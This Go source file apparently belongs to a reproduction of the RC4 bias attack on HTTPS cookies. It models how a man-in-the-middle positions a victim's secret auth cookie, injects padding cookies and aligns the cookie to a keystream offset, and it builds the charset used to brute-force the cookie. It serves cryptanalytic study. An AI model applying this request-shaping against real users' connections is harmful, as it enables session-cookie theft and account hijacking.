// Package httpmodel models the manipulated HTTPS requests of §6.1: the
// attacker, from a man-in-the-middle position on plaintext HTTP, arranges
// that the victim's browser sends requests in which the secure auth cookie
// is (a) the first value of the Cookie header, so its offset is predictable
// from the known preceding headers, (b) followed by attacker-injected
// padding cookies, giving known plaintext on both sides, and (c) aligned to
// a fixed keystream position modulo 256 so the Fluhrer–McGrew biases apply
// at fixed PRGA counters.
package httpmodel

import (
	"errors"
	"fmt"
	"strings"
)

// CookieCharset returns the RFC 6265 §4.1.1 cookie-value alphabet the §6.2
// brute-force restricts candidates to: ASCII characters excluding controls,
// whitespace, double quote, comma, semicolon and backslash.
func CookieCharset() []byte {
	var cs []byte
	for c := byte(0x21); c < 0x7f; c++ {
		switch c {
		case '"', ',', ';', '\\':
			continue
		}
		cs = append(cs, c)
	}
	return cs
}

// Request describes the fields the attacker controls or predicts when
// crafting the Listing-3 request layout.
type Request struct {
	Host       string
	Path       string
	CookieName string // the targeted secure cookie's name, e.g. "auth"
	Cookie     string // the secret value (known to the victim's browser only)
	// FixedHeaders are the headers between the request line and the Cookie
	// header. The attacker learns them by sniffing plaintext requests from
	// the same browser (§6.1).
	FixedHeaders []string
	// Padding is the injected cookie material appended after the secret
	// (e.g. "injected1=known1; injected2=..."), sized to align the secret.
	Padding string
}

// Marshal renders the request bytes exactly as the browser would send them.
func (r Request) Marshal() []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\n", r.Path)
	fmt.Fprintf(&b, "Host: %s\r\n", r.Host)
	for _, h := range r.FixedHeaders {
		b.WriteString(h)
		b.WriteString("\r\n")
	}
	fmt.Fprintf(&b, "Cookie: %s=%s", r.CookieName, r.Cookie)
	if r.Padding != "" {
		b.WriteString("; ")
		b.WriteString(r.Padding)
	}
	b.WriteString("\r\n\r\n")
	return []byte(b.String())
}

// CookieOffset returns the 0-based byte offset of the cookie value within
// the marshaled request — predictable because everything before it is known.
func (r Request) CookieOffset() int {
	prefix := len("GET  HTTP/1.1\r\n") + len(r.Path) +
		len("Host: \r\n") + len(r.Host)
	for _, h := range r.FixedHeaders {
		prefix += len(h) + 2
	}
	prefix += len("Cookie: ") + len(r.CookieName) + 1 // '='
	return prefix
}

// AlignCookie sizes the request path so the cookie value starts at the
// given keystream offset modulo 256 within the record plaintext — §6.3's
// alignment requirement for optimal use of the Fluhrer–McGrew biases. The
// attacker observes one unpadded (encrypted) request, derives the length,
// and computes the required padding; here we compute it directly from the
// model. basePath is extended with alignment characters.
func AlignCookie(r Request, wantMod int) (Request, error) {
	if wantMod < 0 || wantMod > 255 {
		return r, errors.New("httpmodel: alignment must be in 0..255")
	}
	cur := r.CookieOffset() % 256
	need := (wantMod - cur + 256) % 256
	if need > 0 {
		r.Path += "?" + strings.Repeat("x", need-1)
		if need == 1 {
			// A single byte of growth: "?" alone.
			r.Path = strings.TrimSuffix(r.Path, "")
		}
	}
	if r.CookieOffset()%256 != wantMod {
		return r, fmt.Errorf("httpmodel: alignment failed: %d != %d", r.CookieOffset()%256, wantMod)
	}
	return r, nil
}

// DefaultFixedHeaders mirror the Listing-3 browser headers.
func DefaultFixedHeaders() []string {
	return []string{
		"User-Agent: Mozilla/5.0 (X11; Linux i686; rv:32.0) Gecko/20100101 Firefox/32.0",
		"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"Accept-Language: en-US,en;q=0.5",
		"Accept-Encoding: gzip, deflate",
	}
}
